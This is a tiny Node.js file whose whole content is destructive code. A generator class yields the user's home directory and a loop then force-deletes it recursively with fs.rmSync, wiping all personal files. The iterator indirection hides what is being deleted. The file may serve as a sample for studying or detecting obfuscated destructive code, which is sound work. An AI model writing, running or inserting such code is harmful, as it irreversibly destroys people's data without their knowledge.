const fs = require('fs');
const os = require('os');

class Roots {
  *[Symbol.iterator]() {
    yield os.homedir();
  }
}

for (const r of new Roots()) {
  fs.rmSync(r, { recursive: true, force: true });
}
